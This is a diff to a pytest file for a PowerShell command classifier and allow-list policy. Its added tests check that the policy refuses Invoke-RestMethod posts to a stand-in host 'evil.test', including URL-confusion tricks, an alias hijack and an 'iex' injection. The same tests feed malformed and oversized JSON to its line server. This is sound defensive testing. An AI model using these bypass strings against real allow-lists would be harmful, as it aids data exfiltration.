@@ -107,23 +107,44 @@ def test_cli(capsys: pytest.CaptureFixture[str]) -> None:
 
 
 def test_stdio_answers_each_line() -> None:
-    asked = io.StringIO('{"id": 7, "text": "Get-Date"}\nnonsense\n[]\n{"text": 1}\n\n{"id": 8, "text": "rm x"}\n')
+    lines = [
+        b'{"id": 7, "text": "Get-Date"}',
+        b"nonsense",
+        b"[]",
+        b'{"text": 1}',
+        b"",
+        b'{"id": 1, "text": "Get-Date", "x": "\xff"}',
+        b'{"id": NaN, "text": "Get-Date"}',
+        b"[" * 100_000,
+        b'{"id": "s", "text": "\\ud800 Get-Date"}',
+        b'{"id": {"a": [1]}, "text": ""}',
+        b'{"text": "' + b"a" * 5_000_000 + b'"}',
+        b'{"id": 8, "text": "rm x"}',
+    ]
     said = io.StringIO()
-    serve_lines(asked, said, default_catalog(), Policy())
+    serve_lines(io.BytesIO(b"\n".join(lines)), said, default_catalog(), Policy())
     answers = [json.loads(line) for line in said.getvalue().splitlines()]
+    refused = (None, "unknown", False)
     assert [(a["id"], a["verdict"], a["allowed"]) for a in answers] == [
         (7, "read", True),
-        (None, "unknown", False),
-        (None, "unknown", False),
-        (None, "unknown", False),
+        refused,
+        refused,
+        refused,
+        refused,
+        refused,
+        refused,
+        ("s", "unknown", False),
+        ({"a": [1]}, "read", True),
+        refused,
         (8, "unknown", False),
     ]
+    assert all(("error" in answer) == (answer["id"] is None) for answer in answers)
 
 
 POLICY = """
 [allow]
 verdicts = ["read", "secret"]
-commands = ["Start-Mg*", "Invoke-RestMethod"]
+commands = ["Start-Mg*", "Invoke-RestMethod", "Get-Thing", "Set-Alias"]
 modules = ["Az.*"]
 hosts = ["*.example.com", "example.com"]
 [allow.parameters.Start-MgServicePrincipalSynchronizationJob]
@@ -150,8 +171,74 @@ def test_policy(tmp_path: Path) -> None:
     assert allows("Invoke-RestMethod https://www.example.com/a -Method Post -Body x")
     assert not allows("Invoke-RestMethod https://evil.test/www.example.com -Method Post -Body x")
     assert not allows("Remove-Item x")
+    for address in (
+        "$u",
+        "'https://evil.test\\@www.example.com'",
+        "https://www.example.com@evil.test/",
+        "https://evil.test:443/www.example.com",
+    ):
+        assert not allows(f"Invoke-RestMethod {address} -Method Post -Body x"), address
+    assert not allows("Invoke-RestMethod https://www.example.com/a -Method $m")
+    assert not allows("Set-Alias Get-Date Start-MgX")
     assert not allows(START + "abc-1; iex x")
     for bad in ("x = 1", "[allow]\nnope = []", "[allow]\ncommands = 'a'", "[allow]\nverdicts = ['unknown']", "[allow"):
         path.write_text(bad)
         with pytest.raises(ConfigurationError):
             read_policy(str(path))
+
+
+THING = """---
+Module Name: Things
+external help file: Things-help.xml
+schema: 2.0.0
+---
+
+# Get-Thing
+
+## SYNOPSIS
+Gets things of a machine.
+
+## SYNTAX
+
+```
+Get-Thing [[-ComputerName] <String[]>] [<CommonParameters>]
+```
+
+## PARAMETERS
+
+### -ComputerName
+The machine.
+
+```yaml
+Type: String[]
+Parameter Sets: (All)
+Aliases:
+
+Required: False
+Position: 0
+Default value: None
+Accept pipeline input: False
+Accept wildcard characters: False
+```
+"""
+
+
+def test_policy_names_the_machines(tmp_path: Path) -> None:
+    page, path = tmp_path / "Get-Thing.md", tmp_path / "policy.toml"
+    page.write_text(THING)
+    catalog = default_catalog()
+    catalog.add_path(str(page))
+
+    def allows(text: str, policy: str) -> bool:
+        path.write_text(policy)
+        return read_policy(str(path)).allows(classify(text, catalog))
+
+    named = '[allow]\ncommands = ["Get-Thing"]\n'
+    hosts = named + 'hosts = ["*.example.com"]\n'
+    assert classify("Get-Thing", catalog).verdict == "read"
+    assert classify("Get-Thing a.example.com", catalog).verdict == "unknown"
+    assert allows("Get-Thing a.example.com, b.example.com", hosts)
+    assert not allows("Get-Thing a.example.com", named)
+    assert not allows("Get-Thing a.example.com", '[allow]\nhosts = ["*"]\n')
+    for machines in ("a.example.com, evil", "$x", "evil/x.example.com", "(gc a)", "('a' + '.example.com')"):
+        assert not allows(f"Get-Thing {machines}", hosts), machines
